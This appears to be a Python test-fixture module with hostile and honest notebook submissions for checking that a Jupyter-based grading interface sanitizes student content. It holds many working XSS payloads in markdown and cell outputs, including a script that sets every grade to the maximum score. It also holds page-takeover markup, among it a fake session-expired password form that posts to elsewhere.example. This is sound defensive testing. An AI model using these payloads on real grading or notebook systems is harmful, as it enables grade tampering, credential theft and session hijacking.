"""Contents of hostile and honest submissions. A payload whose code runs calls ``ran(name)``."""

PIXEL = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
GIF = "R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{}"><circle r="9"/></svg>'
POINTS = ("const all = new Grades(); all.fetch({data: {submission_id}, "
          "success: () => all.each(one => one.save({manual_score: one.get('max_score')}))});")

# These run on the stock pages, either when a page is opened or when all of its elements are clicked and focused.
MARKDOWN = {
    "script": "<script>ran('script')</script>",
    "points": f"<script>window.Grades && addEventListener('load', () => {{{POINTS} ran('points')}});"
              "window.Grades || ran('points')</script>",
    "image": "Here is my plot: <img src=x onerror=\"ran('image')\">",
    "link": "[my source](<javascript:ran('link')>)",
    "obfuscated": "<a href=\"&#106;ava&Tab;script&colon;ran('obfuscated')\">my source</a>",
    "data frame": "<iframe src=\"data:text/html,<script>ran('data frame')</script>\"></iframe>",
    "focus": "<input autofocus onfocus=\"ran('focus')\">",
    "button": "<form action=\"javascript:ran('button')\"><button>Go on</button></form>",
    "diagram": "```mermaid\n<img src=x onerror=\"ran('diagram')\">\n```",
    "tooltip": "<a data-toggle=\"tooltip\" data-html=\"true\" onclick=\"ran('tooltip')\""
               " title=\"<img src=x onerror=ran('tooltip')>\">?</a>",
}
OUTPUTS = {
    "html output": "display(HTML(\"<script>ran('html output')</script>\"))",
    "svg in html": f"display(HTML({SVG.format('ran(`svg in html`)')!r}))",
    "javascript": "display(Javascript(\"ran('javascript')\"))",
    "markdown output": "display(Markdown(\"<img src=x onerror=\\\"ran('markdown output')\\\">\"))",
    "size": f"raw({{'image/png': '{PIXEL}'}}, {{'image/png': {{'width': '1 onload=ran(/size/.source)'}}}})",
    "isolated": "raw({'text/html': \"<script>ran('isolated')</script>\"}, {'text/html': {'isolated': True}})",
}
IMPORTS = ("from IPython.display import HTML, Javascript, Latex, Markdown, display\n\n\n"
           "def raw(data, metadata=None):\n    display(data, metadata=metadata, raw=True)")

# These are harmless on the stock pages of current versions, too, and must remain harmless on ours.
QUIET_MARKDOWN = {
    "formula": "$<img src=x onerror=\"ran('formula')\">$ and $$<script>ran('formula')</script>$$",
    "link in a formula": "$\\href{javascript:ran('link in a formula')}{x}$ $\\unicode[x onload=ran(1)]{65}$",
    "code": "`<script>ran('code')</script>`\n\n    <script>ran('code')</script>\n\n"
            "```html\n<script>ran('code')</script>\n```\n\n```nonsense\n<script>ran('code')</script>\n```",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
                "onerror=ran('mutation')&gt;\">",
    "comment": "<!--><img src=x onerror=ran('comment')>-->",
    "image title": "![a](x \"\\\" onerror=ran('image title') a=\\\"\")",
    "image of text": f"![\" onerror=ran('alt')](data:text/html;base64,{PIXEL})",
    "object": "<object data=\"javascript:ran('object')\"></object><embed src=\"javascript:ran('object')\">",
}
QUIET_OUTPUTS = {
    "svg output": f"raw({{'image/svg+xml': {SVG.format('ran(1)')!r}}})",
    "latex output": "display(Latex(\"$\\\\href{javascript:ran('latex')}{x}$ <script>ran('latex')</script>\"))",
    "printed": "print(\"<script>ran('printed')</script> \\x1b[31m<img src=x onerror=ran('printed')>\")",
    "traceback": "raise ValueError(\"<script>ran('traceback')</script>\")",
    "widget": "raw({'application/vnd.jupyter.widget-view+json':\n"
              "     {'model_id': \"</script><script>ran('widget')</script>\", 'version_major': 2}})",
    "unknown": "raw({'application/<script>ran(1)</script>': 'x'})",
    "mermaid": "raw({'text/vnd.mermaid': \"<script>ran('mermaid')</script>\"})",
}
WIDGETS = {"application/vnd.jupyter.widget-state+json": {
    "version_major": 2, "version_minor": 0,
    "state": {"</script><script>ran('widget')</script>": {
        "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
        "state": {"value": "<img src=x onerror=ran('widget')>"}}}}}

# These contain no code, but they take over the page: they cover it, leave it, ask for a password, send requests to the
# server of the page, or give the id of a field to another element.
PAGE = {
    "base": "<base href=\"https://elsewhere.example/\">",
    "refresh": "<meta http-equiv=\"refresh\" content=\"600; url=https://elsewhere.example/\">",
    "form": "<form action=\"https://elsewhere.example/\">Your session ended. <input name=password><button>Log in"
            "</button></form>",
    "cover": "<div style=\"position: fixed; inset: 0; z-index: 99999\">x</div>",
    "cover by class": "<div class=\"modal-backdrop in\">x</div>",
    "style": "<style>body::after {content: ''; position: fixed; inset: 0; z-index: 99999}</style>",
    "link style": "<link rel=stylesheet href=\"https://elsewhere.example/style.css\">",
    "request": "<img src=\"/formgrader/?path=submitted/mallory\"> ![x](/formgrader/?path=submitted/mallory)",
    "request by address": "![x](http://localhost:8888/formgrader/?path=x) <a href=\"http://127.0.0.1:8888/lab\">x</a>",
    "file beside": "[my plot](plot.html) [and](files/plot.html) [this](//elsewhere.example/)",
    "field": "<input class=\"score\" id=\"parity-check\"> <b id=\"what_convinces\">x</b>",
    "media": "<audio src=\"https://elsewhere.example/a.ogg\" autoplay></audio>",
    "backdrop image": "<table background=\"https://elsewhere.example/x.png\"><tr><td"
                      " style=\"background: url(https://elsewhere.example/y.png)\">1</td></tr></table>",
}

# The work of an honest student must look the same as before.
HONEST = f"""## What I found

If a < b and b > c, then `if a < b: print("<script>")`, by $a<b & c$, [as here](https://example.org/?a=1&b=2).

$$
h_t = \\tanh(W h_{{t-1}} + x_t) < 1
$$

\\begin{{align}}
a &< b \\\\
c &> d
\\end{{align}}

| bits | parity |
|-----:|:------:|
| `01` | $p<1$  |

```python
print("<script>" if a < b else 'ran')
```

![a pixel](data:image/png;base64,{PIXEL}) ![moving](data:image/gif;base64,{GIF}) ![pasted](attachment:pasted.png)

- [x] done <br> H<sub>2</sub>O, <b>bold</b>, ~~gone~~

<details><summary>More</summary>the rest</details>
"""
HONEST_OUTPUTS = {
    "frame": "display(HTML('<table border=\"1\" class=\"dataframe\"><tr style=\"text-align: right;\"><th>a</th></tr>'\n"
             "             '<tr><td>a frame of data</td></tr></table>'))",
    "plot": f"raw({{'image/png': '{PIXEL}', 'text/plain': '<Figure>'}}, {{'image/png': {{'width': 7, 'height': 5}}}})",
    "drawing": f"raw({{'image/svg+xml': {SVG.format('')!r}}})",
}
